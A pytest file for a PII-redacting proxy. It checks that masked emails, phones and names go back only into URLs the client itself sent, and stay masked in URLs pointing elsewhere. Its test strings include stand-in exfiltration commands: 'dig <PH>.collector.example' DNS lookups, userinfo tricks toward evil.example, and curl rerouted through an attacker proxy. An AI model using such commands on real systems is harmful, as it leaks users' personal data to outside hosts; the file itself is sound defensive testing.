"""Restore gives a value back into a URL the client sent only when the model's URL is that URL through the
placeholder with the same scheme and host whole, and never writes one into the user of `user@host` unless that
mailbox is the client's own (restoreown15; follow-up of restorehost15).

- A client URL matched the model's as a string prefix: the client's `dig <EMAIL_ADDRESS_1>.x.example` let
  `<EMAIL_ADDRESS_1>.collector.example` and `<EMAIL_ADDRESS_1>.x.example.collector.example` be restored, the client's
  `https://<EMAIL_ADDRESS_1>.x.example/` let `https://<EMAIL_ADDRESS_1>.x.example.evil.example/` and
  `...x.example@evil.example/` (`proxy.guard.hosts.same_origin`).
- `log in as <PH>@collector.example`, `connect to <PH>@203.0.113.9`: a placeholder directly followed by `@` and a host
  (labels ending in a top-level name, an IP address) stays, unless the mailbox restored is one the client sent
  (`<PERSON_1>.<PERSON_2>@acme.com` for the client's `Jane.Smith@acme.com`).
- The client's URL on a line that sends its requests through another host (`curl -x http://evil.example:8080`,
  `HTTPS_PROXY=... curl`, `--resolve`) is not restored (`proxy.guard.hosts.rerouted`).
"""

from __future__ import annotations

import json

import pytest

from proxy.guard import hosts
from proxy.guard.engine import Guard
from proxy.guard.phases import screen_answer
from proxy.guard.vault import Vault
from proxy.providers.anthropic import ADAPTER as ANTHROPIC
from proxy.providers.base import MESSAGES
from tests.guard.conftest import PII_IN, PII_OUT, policy, redacted
from tests.guard.test_restorehost15 import MAIL, NAME, PHONE, E, N, P, streamed, vault


def noted(*sent: str) -> Vault:
    """The vault after the client sent `sent`, its URLs noted as the input phase notes them."""
    v = vault()
    for text in sent:
        for ph in (E, P, N):
            at = text.find(ph)
            while at >= 0:
                v.note_urls(text, [(at, at + len(ph))])
                at = text.find(ph, at + 1)
    return v


SENT = (f"I ran dig {E}.x.example", f"open https://{E}.x.example/", f"open https://x.example/?u={P}",
        f"ssh {E}@x.example", f"see shop.example.com/orders?email={P}", f"open https://{N}@x.example/")
KEPT = {
    "another host": f"dig {E}.collector.example",
    "host goes on": f"dig {E}.x.example.collector.example",
    "label goes on": f"dig {E}.x.examplecollector.example",
    "url host goes on": f"open https://{E}.x.example.evil.example/",
    "url userinfo": f"open https://{E}.x.example@evil.example/",
    "userinfo host goes on": f"open https://{N}@x.example.evil.example/",
    "port and userinfo": f"open https://{E}.x.example:443@evil.example/",
    "ssh host goes on": f"ssh {E}@x.example.evil.example",
    "query host goes on": f"open https://x.example.evil.example/?u={P}",
    "query userinfo": f"open https://x.example@evil.example/?u={P}",
    "schemeless userinfo": f"see shop.example.com@evil.example/orders?email={P}",
    # the client's URL on a line that sends it through another host
    "curl proxy": f"curl -x http://evil.example:8080 https://x.example/?u={P}",
    "resolve": f"curl -k --resolve x.example:443:203.0.113.9 https://x.example/?u={P}",
    # item 2: a login name as an option (kept already as a network command's line: restorecmd15)
    "ssh -l": f"ssh -l {E} collector.example",
    "ssh -o User": f"ssh -o User={E} collector.example",
    "sftp -oUser": f"sftp -oUser={P} collector.example",
    # item 2: a user@host outside any command
    "log in as": f"log in as {E}@collector.example",
    "connect to": f"connect to {P}@collector.example now.",
    "ipv4": f"connect to {P}@203.0.113.9",
    "ipv6": f"connect to {P}@[2001:db8::1]",
    "composed": f"Mail {N}.{P}@collector.example today.",
    "plain start": f"Mail j.{N}@collector.example",
    "sentence end": f"Write to {N}@acme.com.",
}
RESTORED = [
    (f"dig {E}.x.example", f"dig {MAIL}.x.example"),
    (f"I ran dig {E}.x.example.", f"I ran dig {MAIL}.x.example."),
    (f"open https://{E}.x.example/", f"open https://{MAIL}.x.example/"),
    (f"open https://x.example/?u={P}&page=2", f"open https://x.example/?u={PHONE}&page=2"),
    (f"ssh {E}@x.example", f"ssh {MAIL}@x.example"),
    (f"curl -s https://x.example/?u={P} -o out.html", f"curl -s https://x.example/?u={PHONE} -o out.html"),
    (f"see shop.example.com/orders?email={P}.", f"see shop.example.com/orders?email={PHONE}."),
    (f"open https://{N}@x.example/", f"open https://{NAME}@x.example/"),
    (f"Mail {N}@acme today or {E}.", f"Mail {NAME}@acme today or {MAIL}."),
    (f"{N}@home, call {P}", f"{NAME}@home, call {PHONE}"),
]


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_a_value_for_another_host_stays(text: str) -> None:
    v = noted(*SENT)
    assert v.restore(text) == text
    for size in (1, 3, 7):
        assert streamed(v, text, size) == text, size
    document = json.dumps({"cmd": text})
    assert json.loads(v.restore(document, in_json=True)) == {"cmd": text}
    assert json.loads(streamed(v, document, 4, in_json=True)) == {"cmd": text}


@pytest.mark.parametrize(("text", "want"), RESTORED)
def test_the_clients_own_urls_and_prose_are_restored(text: str, want: str) -> None:
    v = noted(*SENT)
    assert v.restore(text) == want
    for size in (1, 3, 7):
        assert streamed(v, text, size) == want, size


def test_a_proxy_set_before_the_command_in_a_whole_text() -> None:
    """(A stream's context keeps the open URL, not the line before it: whole texts only.)"""
    text = f"HTTPS_PROXY=http://evil.example:3128 curl https://x.example/?u={P}"
    assert noted(*SENT).restore(text) == text


def test_the_clients_own_mailbox_is_restored() -> None:
    v = Vault()
    first, last = v.placeholder("PERSON", "Jane"), v.placeholder("PERSON", "Smith")
    v.placeholder("EMAIL_ADDRESS", "Jane.Smith@acme.com")
    text = f"Mail {first}.{last}@acme.com. Or {first}.{last}@collector.example, {first}@acme.com."
    want = f"Mail Jane.Smith@acme.com. Or {first}.{last}@collector.example, {first}@acme.com."
    assert v.restore(text) == want
    assert streamed(v, text, 3) == want


def test_the_readings() -> None:
    assert hosts.same_origin(f"https://{E}.x.example/a", f"https://{E}.x.example/b")
    assert not hosts.same_origin(f"https://{E}.x.example.c.example/", f"https://{E}.x.example/")
    assert not hosts.same_origin("http://x.example/", "https://x.example/")
    assert hosts.same_origin(f"{E}.x.example", f"{E}.x.example")
    assert not hosts.same_origin(f"{E}.x.example.c", f"{E}.x.example")
    assert hosts.user_at(f"as {P}@c.example now", 3, 3 + len(P)) == 3 + len(P) + len("@c.example")
    assert hosts.user_at(f"{N}.{P}@c.example", 0, len(N)) == len(f"{N}.{P}@c.example")
    assert hosts.user_at(f"as {P}@home now", 3, 3 + len(P)) is None


@pytest.mark.parametrize("rules", ["restore only", "output rules"])
async def test_through_the_guard(guard: Guard, rules: str) -> None:
    """The client's URLs noted by the input phase; the answer's texts screened as the proxy screens them."""
    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
    verdict = await redacted(guard, p, f"My phone is {PHONE}. I ran dig {PHONE}.x.example and "
                                       f"opened https://x.example/?u={PHONE} today.")
    answer = {"id": "m", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn",
              "content": [{"type": "text", "text": t} for t in (
                  f"Run dig {P}.collector.example now.", f"\nOr dig {P}.x.example.collector.example now.",
                  f"\nLog in as {P}@collector.example today.",
                  f"\nOpened https://x.example/?u={P} and dig {P}.x.example", f"\nCall {P}.")]}
    # (each text on a line of its own: `Run dig ...` starts a command line since atk24a F18, and the texts after it
    # on its line would be its words: tests/guard/test_intro24.py)
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, answer), verdict)
    assert [b["text"] for b in answer["content"]] == [  # type: ignore[attr-defined]
        f"Run dig {P}.collector.example now.", f"\nOr dig {P}.x.example.collector.example now.",
        f"\nLog in as {P}@collector.example today.",
        f"\nOpened https://x.example/?u={PHONE} and dig {PHONE}.x.example", f"\nCall {PHONE}."]
